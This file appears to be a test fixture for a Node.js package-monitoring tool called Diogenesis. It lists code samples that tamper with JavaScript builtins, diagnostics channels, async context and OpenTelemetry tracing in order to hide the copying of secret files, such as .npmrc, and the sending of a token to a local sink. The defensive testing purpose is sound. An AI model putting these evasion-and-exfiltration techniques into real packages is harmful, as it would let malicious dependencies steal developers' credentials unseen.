import { techniques } from '../technique.ts';

const fs = `const fs = require('node:fs');`;

/* Methods that a careless monitor calls on the way from an act to its finding. */
const METHODS = [
  'Map.prototype.get',
  'Map.prototype.set',
  'Set.prototype.has',
  'WeakMap.prototype.get',
  'Array.prototype.push',
  'Array.prototype.slice',
  'Array.prototype.map',
  'Array.prototype.join',
  'Array.prototype.indexOf',
  'Array.prototype.concat',
  'Array.prototype.some',
  'Array.prototype.filter',
  'RegExp.prototype.exec',
  'RegExp.prototype.test',
  'String.prototype.startsWith',
  'String.prototype.endsWith',
  'String.prototype.indexOf',
  'String.prototype.slice',
  'String.prototype.split',
  'String.prototype.includes',
  'String.prototype.replace',
  'String.prototype.toLowerCase',
  'String.prototype.charCodeAt',
  'Function.prototype.call',
  'Function.prototype.apply',
  'Function.prototype.bind',
  'Object.keys',
  'Object.entries',
  'Object.freeze',
  'Object.fromEntries',
  'JSON.stringify',
  'Reflect.apply',
  'Reflect.ownKeys',
  'Reflect.defineProperty',
  'Reflect.getOwnPropertyDescriptor',
  'Reflect.construct',
  'Date.now',
  'Math.floor',
  'Math.min',
  'Math.log',
  'Number.prototype.toString',
  'String.prototype.padStart',
  'Date.prototype.toISOString',
];

/* Each breaks one of them in every way at once, only while the act happens. */
const breakOne = `const broken = (name, act) => {
  const parts = name.split('.'), key = parts.pop();
  let owner = globalThis; for (const part of parts) owner = owner[part];
  const before = Object.getOwnPropertyDescriptor(owner, key);
  const { defineProperty } = Object;
  defineProperty(owner, key, { ...before, value: function () { throw new Error('tampered'); } });
  let result;
  try { result = act(); } finally { defineProperty(owner, key, before); }
  return result;
};`;

/** Breaking what Diogenesis stands on. */
export const TAMPERING = techniques('field', [
  ...METHODS.map((method) => ({
    name: `break ${method}`,
    deed: 'read' as const,
    says: `${method} throws while the act happens`,
    evil: `${fs} ${breakOne} exports.run = () => { broken('${method}', () => fs.copyFileSync(SECRET, LOOT)); };`,
  })),
  {
    name: 'break-all',
    deed: 'read',
    source: 'own',
    says: 'all of them at once, for good',
    evil: `${fs} exports.run = () => {
      const { copyFileSync } = fs;
      for (const name of ['get', 'set', 'has']) for (const C of [Map, Set, WeakMap]) if (C.prototype[name]) C.prototype[name] = () => undefined;
      Array.prototype.push = () => 0;
      String.prototype.startsWith = () => false;
      RegExp.prototype.exec = () => null;
      copyFileSync(SECRET, LOOT);
    };`,
  },
  {
    name: 'iterator',
    deed: 'read',
    source: 'own',
    says: 'Array.prototype[Symbol.iterator] yields nothing',
    evil: `${fs} exports.run = () => {
      const before = Array.prototype[Symbol.iterator];
      Array.prototype[Symbol.iterator] = function* () {};
      fs.copyFileSync(SECRET, LOOT);
      Array.prototype[Symbol.iterator] = before;
    };`,
  },
  {
    name: 'array-index-setter',
    deed: 'read',
    source: 'own',
    says: 'a setter for index 0 on Array.prototype swallows what is stored',
    evil: `${fs} exports.run = () => {
      Object.defineProperty(Array.prototype, '0', { configurable: true, set() {}, get() { return undefined; } });
      try { fs.copyFileSync(SECRET, LOOT); } finally { delete Array.prototype[0]; }
    };`,
  },
  {
    name: 'object-prototype-getter',
    deed: 'read',
    source: 'own',
    says: 'Object.prototype gets properties that options are looked up by',
    evil: `${fs} exports.run = () => {
      for (const name of ['impliedByNode', 'principal', 'habituated', 'refusal', 'isRepeat', 'excuses', 'get', 'shell', 'mode', 'flag', 'fs']) Object.defineProperty(Object.prototype, name, { configurable: true, get: () => undefined, set() {} });
      Object.prototype.impliedByNodeX = true;
      fs.copyFileSync(SECRET, LOOT);
    };`,
  },
  {
    name: 'object-prototype-implied',
    deed: 'read',
    source: 'own',
    says: 'Object.prototype says that every act is implied by Node',
    evil: `${fs} exports.run = () => { Object.prototype.impliedByNode = true; Object.prototype.principal = { key: 'innocent@2.3.4', kind: 'package', name: 'innocent', version: '2.3.4', root: '/', dependencies: new Set() }; try { setTimeout(fs.copyFileSync, 1, SECRET, LOOT); } finally { setTimeout(() => { delete Object.prototype.impliedByNode; delete Object.prototype.principal; }, 20); } };`,
  },
  {
    name: 'then-replaced',
    deed: 'read',
    source: 'own',
    says: 'Promise.prototype.then is replaced',
    evil: `${fs} exports.run = () => {
      const then = Promise.prototype.then;
      Promise.prototype.then = function () { return this; };
      fs.promises.copyFile(SECRET, LOOT);
      setTimeout(() => { Promise.prototype.then = then; }, 30);
    };`,
  },
  {
    name: 'channels-emptied',
    deed: 'connect',
    says: 'the subscribers of every diagnostics channel are removed',
    evil: `const dc = require('node:diagnostics_channel'); exports.run = () => {
      for (const name of ['undici:request:create', 'undici:client:beforeConnect', 'http.client.request.created', 'net.client.socket']) {
        const channel = dc.channel(name);
        channel._subscribers = []; try { Object.setPrototypeOf(channel, dc.Channel.prototype); } catch {}
      }
      fetch('http://127.0.0.1:' + SINK + '/' + TOKEN).catch(() => {});
    };`,
  },
  {
    name: 'channels-publish',
    deed: 'connect',
    source: 'own',
    says: 'a replaced publish keeps http from being told',
    evil: `const dc = require('node:diagnostics_channel'); exports.run = () => {
      dc.channel('http.client.request.created').publish = () => {};
      require('node:http').get('http://127.0.0.1:' + SINK + '/' + TOKEN).on('error', () => {});
    };`,
  },
  {
    name: 'get-call-sites',
    deed: 'read',
    source: 'own',
    says: 'util.getCallSites is replaced',
    evil: `${fs} exports.run = () => { require('node:util').getCallSites = () => []; fs.copyFileSync(SECRET, LOOT); };`,
  },
  {
    name: 'sync-builtin-exports',
    deed: 'read',
    source: 'own',
    says: 'fs functions are replaced and synchronised into ES modules',
    app: `require('evil').run(); import('node:fs').then((fs) => fs.copyFileSync(process.env.SECRET, process.env.LOOT, 'evil'));`,
    evil: `${fs} exports.run = () => {
      const { copyFileSync } = fs;
      fs.copyFileSync = (from, to) => copyFileSync(from, to);
      require('node:module').syncBuiltinESMExports();
    };`,
  },
  {
    name: 'wrapper-restored',
    deed: 'read',
    source: 'own',
    says: 'puts an unpatched function from a fresh context in the place of the wrapper',
    way: /binding|diogenesis\./,
    evil: `${fs} exports.run = () => {
      const { internalModuleReadJSON, readFileUtf8 } = process.binding('fs');
      fs.readFileSync = (file) => readFileUtf8(file, 0);
      prove(fs.readFileSync(SECRET));
    };`,
  },
  {
    name: 'store-forged',
    deed: 'read',
    source: 'own',
    says: 'overwrites what asynchronous contexts hold',
    evil: `${fs} const hooks = require('node:async_hooks'); exports.run = () => {
      setTimeout(() => {
        const resource = hooks.executionAsyncResource();
        for (const key of Object.getOwnPropertySymbols(resource)) resource[key] = 'own';
        fs.copyFileSync(SECRET, LOOT);
      }, 1);
    };`,
  },
  {
    name: 'store-forged-all',
    deed: 'read',
    source: 'own',
    says: 'copies the context of every asynchronous resource it can see',
    evil: `${fs} const hooks = require('node:async_hooks'); exports.run = () => {
      const seen = new Map();
      hooks.createHook({ init(id, type, trigger, resource) { for (const k of Object.getOwnPropertySymbols(resource)) if (resource[k] !== undefined) seen.set(k, resource[k]); } }).enable();
      setTimeout(() => {
        const resource = hooks.executionAsyncResource();
        for (const key of seen.keys()) resource[key] = 'own';
        fs.copyFileSync(SECRET, LOOT);
      }, 2);
    };`,
  },
  {
    name: 'als-methods',
    deed: 'read',
    source: 'own',
    says: 'AsyncLocalStorage methods are replaced',
    evil: `${fs} const { AsyncLocalStorage } = require('node:async_hooks'); exports.run = () => {
      AsyncLocalStorage.prototype.getStore = () => 'own';
      AsyncLocalStorage.prototype.run = (store, fn) => fn();
      fs.copyFileSync(SECRET, LOOT);
    };`,
  },
  {
    name: 'suppress-tracing',
    deed: 'read',
    says: "acts in OpenTelemetry's suppressed context",
    source: 'own',
    evil: `${fs} exports.run = () => {
      const api = require('@opentelemetry/api');
      api.context.with(api.context.active().setValue(Symbol.for('OpenTelemetry SDK Context Key SUPPRESS_TRACING'), true), () => fs.copyFileSync(SECRET, LOOT));
    };`,
  },
  {
    name: 'inside-the-tracer',
    deed: 'read',
    source: 'own',
    says: 'acts inside a tracer of its own, while Diogenesis starts a span',
    evil: `${fs} exports.run = () => {
      const api = require('@opentelemetry/api');
      const span = { spanContext: () => ({ traceId: '0'.repeat(31) + '1', spanId: '0'.repeat(15) + '1', traceFlags: 0 }), isRecording: () => false };
      const noop = new Proxy(span, { get: (t, k) => t[k] ?? (() => noop) });
      let done = false;
      api.trace.setGlobalTracerProvider({ getTracer: () => ({ startSpan() { if (!done) { done = true; fs.copyFileSync(SECRET, LOOT); } return noop; } }) });
      fs.writeFileSync(HOME + '/note.txt', 'anything new');
    };`,
  },
  {
    name: 'inside-the-context',
    deed: 'read',
    source: 'own',
    says: 'acts inside a context manager of its own, while Diogenesis asks for the context',
    evil: `${fs} exports.run = () => {
      const api = require('@opentelemetry/api');
      let done = false;
      api.context.setGlobalContextManager({ active() { if (!done) { done = true; fs.copyFileSync(SECRET, LOOT); } return api.ROOT_CONTEXT; }, with: (c, f) => f(), bind: (c, f) => f, enable() {}, disable() {} });
      fs.writeFileSync(HOME + '/note.txt', 'anything new');
    };`,
  },
  {
    name: 'cwd-replaced',
    deed: 'read',
    source: 'own',
    says: 'process.cwd lies while a relative path is used',
    evil: `${fs} exports.run = () => { process.chdir(HOME); process.cwd = () => '/usr/share'; fs.copyFileSync('.npmrc', LOOT); };`,
  },
  {
    name: 'hostile-options',
    deed: 'connect',
    source: 'own',
    says: 'options whose getters answer otherwise the second time',
    evil: `exports.run = () => {
      let asked = 0;
      require('node:net').connect({ get host() { return asked++ === 0 ? 'registry.npmjs.org' : '127.0.0.1'; }, port: SINK }).on('connect', function () { this.end(TOKEN); }).on('error', () => {});
    };`,
    evidence: /^net\.connect:(127|local)/,
  },
  {
    name: 'hostile-spawn-options',
    deed: 'spawn',
    source: 'own',
    says: 'a program name whose text changes',
    evil: `exports.run = () => {
      const args = new Proxy([], { get: (t, k) => Reflect.get(t, k) });
      require('node:child_process').spawn(STUB, args, { get shell() { return false; } });
    };`,
  },
]);
